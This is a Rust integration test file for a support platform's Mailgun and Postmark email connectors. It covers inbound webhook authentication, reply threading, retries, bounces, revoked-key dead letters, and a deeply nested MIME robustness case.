        json!({"body": "Sorry about that, Jane.\nA replacement ships today.",
               "email": {"cc": ["tom@example.org"], "bcc": ["audit@example.com"]}}),
    )
    .await;
    let sends = env.mailgun.wait_for(1, WAIT).await;
    assert_eq!(sends.len(), 1, "log:\n{}", server.log());
    let send = &sends[0];
    assert!(send.accepted(), "{send:#?}");
    assert_eq!(send.path, format!("/v3/{MAILGUN_DOMAIN}/messages.mime"));
    assert_eq!(
        send.authorization.as_deref(),
        Some(format!("Basic {}", b64(format!("api:{MAILGUN_API_KEY}").as_bytes())).as_str())
    );
    let mut recipients: Vec<String> = send
        .values("to")
        .iter()
        .flat_map(|v| {
            v.split(',')
                .map(|a| a.trim().to_string())
                .collect::<Vec<_>>()
        })
        .collect();
    recipients.sort();
    assert_eq!(
        recipients,
        ["audit@example.com", "jane@example.org", "tom@example.org"],
        "every envelope recipient in `to`"
    );
    let raw = send
        .mime()
        .expect("the MIME as the `message` file")
        .to_vec();
    let message_id = format!("<{event_id}@example.com>");
    assert_eq!(
        header(&raw, "message-id").as_deref(),
        Some(message_id.as_str())
    );
    assert_eq!(
        header(&raw, "in-reply-to").as_deref(),
        Some("<order-1042-b@mail.example.org>")
    );
    let references = header(&raw, "references").unwrap();
    assert_eq!(
        references.split_whitespace().collect::<Vec<_>>(),
        [
            "<order-1042-a@mail.example.org>",
            "<order-1042-b@mail.example.org>"
        ]
    );
    assert_eq!(
        header(&raw, "subject").as_deref(),
        Some("Re: Order 1042 arrived damaged")
    );
    let reply_to = header(&raw, "reply-to").unwrap();
    let tag = reply_to
        .trim_matches(['<', '>'])
        .strip_prefix("support+")
        .and_then(|t| t.strip_suffix("@example.com"))
        .unwrap_or_else(|| panic!("a plus-addressed Reply-To: {reply_to}"))
        .to_string();
    assert!(
        tag.len() > 32 && tag.chars().all(|c| c.is_ascii_alphanumeric()),
        "{tag}"
    );
    assert!(header(&raw, "cc").unwrap().contains("tom@example.org"));
    assert!(header(&raw, "to").unwrap().contains("jane@example.org"));
    let name = agent_name(server).await;
    let from = header(&raw, "from").unwrap();
    assert!(
        from.contains(&format!("<{SUPPORT}>")) && from.contains(&name),
        "{from}"
    );
    let text = String::from_utf8_lossy(&raw);
    assert!(
        !text.contains("audit@example.com"),
        "the bcc is not in the headers"
    );
    assert!(text.contains("A replacement ships today."), "{text}");
    // Sent, under the Message-ID the mail carries (what replies and bounces name).
    let row = outbox_row(server, &event_id, "sent").await;
    assert_eq!(
        row["provider_id"],
        format!("{event_id}@example.com"),
        "{row}"
    );
    delivery(server, &contact_id, &event_id, "sent").await;

    // The customer answers from a client that drops In-Reply-To and
    // References, to the plus-addressed reply address, after the conversation
    // was resolved and the reopen window passed: it joins it again.
    resolve(server, &conversation_id).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let answer = format!(
        "From: Jane Doe <jane@example.org>\r\nTo: {reply_to}\r\nSubject: Re: Order 1042 arrived damaged\r\n\
         Message-ID: <order-1042-c@mail.example.org>\r\nDate: Mon, 07 Dec 2026 11:00:00 +0000\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThanks, got it!\r\n"
    );
    let (status, body) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(
                &answer,
                "Jane Doe <jane@example.org>",
                "jane@example.org",
                "Re: Order 1042 arrived damaged",
            ),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let (_, answered) =
        stored_mail(server, "jane@example.org", "order-1042-c@mail.example.org").await;
    assert_eq!(
        answered["conversation_id"], conversation_id,
        "the signed reply-address tag threads it: {answered:#}"
    );
    assert_eq!(status_of(server, &conversation_id).await, "open");
    // A forged tag does not: a new conversation.
    let forged = answer
        .replace(&tag, &format!("{}0000", &tag[..tag.len() - 4]))
        .replace("order-1042-c@", "order-1042-d@");
    resolve(server, &conversation_id).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let (status, _) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(&forged, "jane@example.org", "jane@example.org", "Re"),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    assert_eq!(status, 200);
    let (_, unthreaded) =
        stored_mail(server, "jane@example.org", "order-1042-d@mail.example.org").await;
    assert_ne!(
        unthreaded["conversation_id"], conversation_id,
        "{unthreaded:#}"
    );
    let conversation_id = unthreaded["conversation_id"].as_str().unwrap().to_string();

    // Mailgun answers 500, then 429: retried, the same mail (with its file)
    // accepted once.
    let upload = upload(server, "label-1042.pdf", "application/pdf", PDF).await;
    env.mailgun.fail_next(1, 500);
    env.mailgun.fail_next(1, 429);
    let retried = reply(
        server,
        &conversation_id,
        json!({"body": "Your return label is attached.", "attachments": [upload]}),
    )
    .await;
    let sends = env.mailgun.wait_for(4, WAIT).await;
    assert_eq!(
        sends.len(),
        4,
        "retried after 500 and 429: {}",
        server.log()
    );
    assert_eq!(sends[1].status, 500);
    assert_eq!(sends[2].status, 429);
    assert!(sends[3].accepted(), "{:#?}", sends[3]);
    let retry_id = format!("<{retried}@example.com>");
    for s in &sends[1..] {
        assert_eq!(
            header(s.mime().unwrap(), "message-id").as_deref(),
            Some(retry_id.as_str())
        );
    }
    let mime = String::from_utf8_lossy(sends[3].mime().unwrap()).into_owned();
    assert!(
        mime.contains("filename=\"label-1042.pdf\"") || mime.contains("name=\"label-1042.pdf\""),
        "the file is in the mail: {mime}"
    );
    assert!(
        mime.replace("\r\n", "").contains(&b64(PDF)),
        "the file's bytes are in the mail"
    );
    let row = outbox_row(server, &retried, "sent").await;
    assert_eq!(row["attempts"], 2, "{row}");
    delivery(server, &contact_id, &retried, "sent").await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        env.mailgun.requests().len(),
        4,
        "accepted once, never sent again"
    );

    // The key is revoked at Mailgun: 401, a dead letter that says why.
    env.mailgun
        .revoke_key("a-new-key-the-connector-does-not-have");
    let refused = reply(server, &conversation_id, json!({"body": "One more thing."})).await;
    let row = outbox_row(server, &refused, "dead").await;
    let reason = row["last_error"].as_str().unwrap_or_default();
    assert!(
        reason.contains("Mailgun") && reason.to_lowercase().contains("key"),
        "a readable reason: {row}"
    );
    assert!(!reason.contains(MAILGUN_API_KEY), "{reason}");
    let failed = delivery(server, &contact_id, &refused, "failed").await;
    assert!(
        failed["error"]
            .as_str()
            .unwrap_or_default()
            .contains("Mailgun"),
        "{failed}"
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    let sends = env.mailgun.requests();
    assert_eq!(sends.len(), 5, "a refused key is not retried");
    assert_eq!(sends[4].status, 401);
    assert!(
        !server.log().contains(MAILGUN_API_KEY),
        "the API key is never logged"
    );
}

/// Postmark's own id of an inbound message: a UUID, stable per message.
fn postmark_id(message_id: &str) -> String {
    use sha2::Digest as _;
    let h = hex::encode(sha2::Sha256::digest(message_id.as_bytes()));
    format!(
        "{}-{}-4{}-a{}-{}",
        &h[0..8],
        &h[8..12],
        &h[13..16],
        &h[17..20],
        &h[20..32]
    )
}

/// A Postmark inbound webhook body, as Postmark posts it.
fn postmark_inbound(message_id: &str, subject: &str, extra_headers: Value, text: &str) -> Value {
    let mut headers = vec![
        json!({"Name": "Return-Path", "Value": "<ann@example.org>"}),
        json!({"Name": "X-Spam-Status", "Value": "No"}),
        json!({"Name": "Message-ID", "Value": format!("<{message_id}>")}),
    ];
    headers.extend(extra_headers.as_array().cloned().unwrap_or_default());
    json!({
        "FromName": "Ann Lee",
        "MessageStream": "inbound",
        "From": "ann@example.org",
        "FromFull": {"Email": "ann@example.org", "Name": "Ann Lee", "MailboxHash": ""},
        "To": format!("\"Example Billing\" <{BILLING}>"),
        "ToFull": [{"Email": BILLING, "Name": "Example Billing", "MailboxHash": ""}],
        "Cc": "\"Bob Lee\" <bob@example.org>",
        "CcFull": [{"Email": "bob@example.org", "Name": "Bob Lee", "MailboxHash": ""}],
        "Bcc": "",
        "BccFull": [],
        "OriginalRecipient": BILLING,
        "Subject": subject,
        "MessageID": postmark_id(message_id),
        "ReplyTo": "",
        "MailboxHash": "",
        "Date": "Mon, 7 Dec 2026 10:45:32 +0000",
        "TextBody": text,
        "HtmlBody": format!("<html><body><p>{text}</p><img src=\"cid:chart@mail.example.org\"></body></html>"),
        "StrippedTextReply": "",
        "Tag": "",
        "Headers": headers,
        "Attachments": [
            {"Name": "receipt.pdf", "Content": b64(PDF), "ContentType": "application/pdf", "ContentLength": PDF.len(), "ContentID": ""},
            {"Name": "chart.png", "Content": b64(PNG), "ContentType": "image/png", "ContentLength": PNG.len(), "ContentID": "chart@mail.example.org"}
        ]
    })
}

#[tokio::test]
async fn postmark_inbound_replies_threading_retries_and_bounces() {
    let env = start().await;
    let server = &env.server;
    let first = postmark_inbound(
        "ann-1@mail.example.org",
        "Refund for invoice 88",
        json!([]),
        "Please refund invoice 88.",
    );

    // Wrong password, wrong user, no credentials: refused, nothing stored.
    for creds in [
        Some((POSTMARK_WEBHOOK_USER, "wrong-password")),
        Some(("someone", POSTMARK_WEBHOOK_PASSWORD)),
        None,
    ] {
        let (status, body) = postmark_post(server, creds, &first).await;
        assert!(status == 401 || status == 403, "{creds:?}: {status} {body}");
    }
    assert!(server.contact_by("email:ann@example.org").await.is_none());
    assert_eq!(conversation_count(server).await, 0);

    // With the URL's credentials: stored; Postmark's retry stored once.
    for _ in 0..2 {
        let (status, body) = postmark_ok(server, &first).await;
        assert_eq!(status, 200, "{body}\n{}", server.log());
    }
    let (contact, event) = stored_mail(server, "ann@example.org", "ann-1@mail.example.org").await;
    assert_eq!(contact["display_name"], "Ann Lee", "{contact}");
    let contact_id = contact["id"].as_str().unwrap().to_string();
    assert_eq!(messages_in(&timeline(server, &contact_id).await).len(), 1);
    assert_eq!(event["plugin_id"], "email-postmark");
    let metadata = &event["data"]["metadata"];
    assert_eq!(metadata["subject"], "Refund for invoice 88", "{event:#}");
    assert_eq!(metadata["cc"], json!(["bob@example.org"]), "{event:#}");
    assert!(
        metadata["html_body"]
            .as_str()
            .unwrap()
            .contains("refund invoice 88")
    );
    assert_eq!(
        event["attachments"].as_array().unwrap().len(),
        2,
        "{event:#}"
    );
    let pdf = attachment(&event, "receipt.pdf");
    assert_eq!(download(server, pdf["url"].as_str().unwrap()).await, PDF);
    let chart = attachment(&event, "chart.png");
    assert_eq!(download(server, chart["url"].as_str().unwrap()).await, PNG);
    let conversation_id = event["conversation_id"].as_str().unwrap().to_string();
    let view = in_conversation(
        &conversation(server, &conversation_id).await,
        event["id"].as_str().unwrap(),
    );
    assert_eq!(
        view["email"]["inline_attachments"].as_array().map(Vec::len),
        Some(1),
        "the ContentID image is inline: {view:#}"
    );
    assert_eq!(
        view["email"]["cc"].as_array().map(Vec::len),
        Some(1),
        "{view:#}"
    );

    // The agent's reply through Postmark's API.
    let event_id = reply(
        server,
        &conversation_id,
        json!({"body": "Hi Ann,\nthe refund is on its way.", "email": {"cc": ["bob@example.org"]}}),
    )
    .await;
    let sends = env.postmark.wait_for(1, WAIT).await;
    assert_eq!(sends.len(), 1, "log:\n{}", server.log());
    let send = &sends[0];
    assert!(send.accepted(), "{send:#?}");
    assert_eq!(send.path, "/email");
    assert_eq!(send.server_token.as_deref(), Some(POSTMARK_SERVER_TOKEN));
    assert!(
        send.accept
            .as_deref()
            .unwrap_or_default()
            .contains("application/json")
    );
    assert!(
        send.content_type
            .as_deref()
            .unwrap_or_default()
            .contains("application/json")
    );
    let mail = &send.json;
    let name = agent_name(server).await;
    assert_eq!(mail["From"], format!("\"{name}\" <{BILLING}>"), "{mail:#}");
    assert_eq!(mail["To"], "ann@example.org");
    assert_eq!(mail["Cc"], "bob@example.org");
    assert_eq!(mail["Subject"], "Re: Refund for invoice 88");
    assert!(
        mail["TextBody"]
            .as_str()
            .unwrap()
            .contains("the refund is on its way"),
        "{mail:#}"
    );
    assert!(
        mail["HtmlBody"]
            .as_str()
            .unwrap()
            .contains("the refund is on its way"),
        "{mail:#}"
    );
    let reply_to = mail["ReplyTo"].as_str().unwrap();
    assert!(
        reply_to.starts_with("billing+") && reply_to.ends_with("@example.net"),
        "plus-addressed: {reply_to}"
    );
    let message_id = format!("{event_id}@example.net");
    assert_eq!(
        send.header("Message-ID"),
        Some(format!("<{message_id}>")),
        "{mail:#}"
    );
    assert_eq!(
        send.header("In-Reply-To").as_deref(),
        Some("<ann-1@mail.example.org>")
    );
    assert_eq!(
        send.header("References").as_deref(),
        Some("<ann-1@mail.example.org>")
    );
    assert_eq!(
        mail["Metadata"]["switchboard_message_id"],
        message_id.as_str()
    );
    let row = outbox_row(server, &event_id, "sent").await;
    assert_eq!(row["provider_id"], message_id.as_str(), "{row}");
    delivery(server, &contact_id, &event_id, "sent").await;

    // Resolved, the reopen window passed; an unrelated new mail starts a new
    // conversation…
    resolve(server, &conversation_id).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let unrelated = postmark_inbound(
        "ann-2@mail.example.org",
        "Another question",
        json!([]),
        "New topic.",
    );
    assert_eq!(postmark_ok(server, &unrelated).await.0, 200);
    let (_, other) = stored_mail(server, "ann@example.org", "ann-2@mail.example.org").await;
    assert_ne!(other["conversation_id"], conversation_id, "{other:#}");
    // …and the answer to the agent's reply joins the resolved one by
    // In-Reply-To, reopening it.
    let answer = postmark_inbound(
        "ann-3@mail.example.org",
        "Re: Refund for invoice 88",
        json!([
            {"Name": "In-Reply-To", "Value": format!("<{message_id}>")},
            {"Name": "References", "Value": format!("<ann-1@mail.example.org> <{message_id}>")}
        ]),
        "Thank you!",
    );
    let (status, body) = postmark_ok(server, &answer).await;
    assert_eq!(status, 200, "{body}");
    let (_, threaded) = stored_mail(server, "ann@example.org", "ann-3@mail.example.org").await;
    assert_eq!(threaded["conversation_id"], conversation_id, "{threaded:#}");
    assert_eq!(status_of(server, &conversation_id).await, "open");

    // A second reply with a subject of the agent's: the customer's newest mail
    // is what it answers.
    let credit_note = upload(server, "credit-note-88.pdf", "application/pdf", PDF).await;
    let second = reply(
        server,
        &conversation_id,
        json!({"body": "Refund sent.", "attachments": [credit_note],
               "email": {"subject": "Your refund for invoice 88"}}),
    )
    .await;
    let sends = env.postmark.wait_for(2, WAIT).await;
    assert_eq!(sends.len(), 2);
    assert!(sends[1].accepted(), "{:#?}", sends[1]);
    assert_eq!(sends[1].json["Subject"], "Your refund for invoice 88");
    assert_eq!(
        sends[1].json["Attachments"],
        json!([{"Name": "credit-note-88.pdf", "Content": b64(PDF), "ContentType": "application/pdf"}])
    );
    assert_eq!(
        sends[1].header("In-Reply-To").as_deref(),
        Some("<ann-3@mail.example.org>")
    );
    let refs = sends[1].header("References").unwrap_or_default();
    assert!(
        refs.contains(&format!("<{message_id}>")) && refs.ends_with("<ann-3@mail.example.org>"),
        "{refs}"
    );
    let second_id = format!("{second}@example.net");
    outbox_row(server, &second, "sent").await;

    // Bounces: a soft one fails nothing; a hard one fails the reply it names,
    // with the reason shown, and starts no conversation.
    let conversations = conversation_count(server).await;
    let bounce = |kind: &str, code: u32, of: &str, postmark_id: &str| {
        json!({
            "RecordType": "Bounce",
            "MessageStream": "outbound",
            "ID": 4_323_372_036_854_775_807u64,
            "Type": kind,
            "TypeCode": code,
            "Name": kind,
            "Tag": "",
            "MessageID": postmark_id,
            "Metadata": {"switchboard_message_id": of},
            "ServerID": 23,
            "Description": "The server was unable to deliver your message (ex: unknown user, mailbox not found).",
            "Details": "smtp;550 5.1.1 The email account that you tried to reach does not exist.",
            "Email": "ann@example.org",
            "From": BILLING,
            "BouncedAt": "2026-12-07T10:50:00.0000000Z",
            "DumpAvailable": false,
            "Inactive": true,
            "CanActivate": true,
            "Subject": "Your refund for invoice 88",
        })
    };
    let postmark_id = sends[1].answer["MessageID"].as_str().unwrap().to_string();
    for (kind, code) in [
        ("SoftBounce", 4096),
        ("AutoResponder", 64),
        ("Unsubscribe", 16),
    ] {
        let (status, body) = postmark_ok(server, &bounce(kind, code, &message_id, "x")).await;
        assert_eq!(status, 200, "{kind}: {body}");
    }
    let (status, body) =
        postmark_ok(server, &bounce("HardBounce", 1, &second_id, &postmark_id)).await;
    assert_eq!(status, 200, "{body}");
    let failed = delivery(server, &contact_id, &second, "failed").await;
    let error = failed["error"].as_str().unwrap_or_default();
    assert!(
        error.contains("HardBounce") && error.contains("does not exist"),
        "{failed:#}"
    );
    assert_eq!(
        timeline(server, &contact_id)
            .await
            .iter()
            .find(|e| e["id"] == event_id)
            .unwrap()["delivery_status"],
        "sent",
        "soft bounces, auto-replies and unsubscribe requests fail nothing"
    );
    assert_eq!(
        conversation_count(server).await,
        conversations,
        "no conversation from a bounce"
    );
    // An unauthenticated bounce is refused.
    let (status, _) = postmark_post(server, None, &bounce("HardBounce", 1, &message_id, "y")).await;
    assert!(status == 401 || status == 403);
    assert_eq!(
        timeline(server, &contact_id)
            .await
            .iter()
            .find(|e| e["id"] == event_id)
            .unwrap()["delivery_status"],
        "sent"
    );

    // Postmark answers 500 once: retried, sent once.
    env.postmark.fail_next(1, 500);
    let retried = reply(
        server,
        &conversation_id,
        json!({"body": "One more update."}),
    )
    .await;
    let sends = env.postmark.wait_for(4, WAIT).await;
    assert_eq!(sends.len(), 4, "retried: {}", server.log());
    assert_eq!(sends[2].status, 500);
    assert!(sends[3].accepted());
    for s in &sends[2..] {
        assert_eq!(
            s.header("Message-ID"),
            Some(format!("<{retried}@example.net>"))
        );
    }
    let row = outbox_row(server, &retried, "sent").await;
    assert_eq!(row["attempts"], 1, "{row}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(env.postmark.requests().len(), 4, "sent once");

    // The token is revoked: 401 ErrorCode 10, a dead letter that says so.
    env.postmark.revoke_token("another-token");
    let refused = reply(server, &conversation_id, json!({"body": "Last one."})).await;
    let row = outbox_row(server, &refused, "dead").await;
    let reason = row["last_error"].as_str().unwrap_or_default();
    assert!(
        reason.contains("Postmark") && reason.contains("Server Token"),
        "a readable reason: {row}"
    );
    delivery(server, &contact_id, &refused, "failed").await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(env.postmark.requests().len(), 5, "not retried");
    assert!(!server.log().contains(POSTMARK_SERVER_TOKEN));
    assert!(!server.log().contains(POSTMARK_WEBHOOK_PASSWORD));
    assert!(
        env.mailgun.requests().is_empty(),
        "each mailbox sends through its own provider"
    );
}

/// A mail of 10 000 nested multiparts (about 580 KB) that anyone can send to a
/// Mailgun-routed mailbox. It must be stored (with a note) or refused, never a
/// 500 the provider retries for hours, and the mailbox must keep working.
///
/// (This found a bug: the connector built the dotted IMAP path of every part,
/// `1.1.1…`, in memory quadratic in the depth — about 200 MB for this mail,
/// over the component's 64 MB. Paths are now built only for attachments, from
/// parent links, and only 64 levels deep.)
#[tokio::test]
async fn mailgun_deeply_nested_mime_is_never_a_500() {
    let env = start().await;
    let server = &env.server;
    let mut deep = String::from(
        "From: Deep <deep@example.org>\r\nMessage-ID: <deep-1@example.org>\r\n\
         Subject: deep\r\nMIME-Version: 1.0\r\n",
    );
    for i in 0..10_000 {
        deep.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n"
        ));
    }
    deep.push_str("Content-Type: text/plain\r\n\r\ndeep down\r\n");
    let (status, body) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(&deep, "deep@example.org", "deep@example.org", "deep"),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    // The mailbox keeps working whatever happened.
    let good = mailgun_signed(parsed_posting(), MAILGUN_SIGNING_KEY, now_secs());
    assert_eq!(mailgun_post(server, "mailgun", &good).await.0, 200);
    stored_mail(server, "ray@example.net", "ray-77@mail.example.net").await;
    assert!(
        status == 200 || status == 400,
        "10 000 nested parts: {status}: {body}"
    );
}
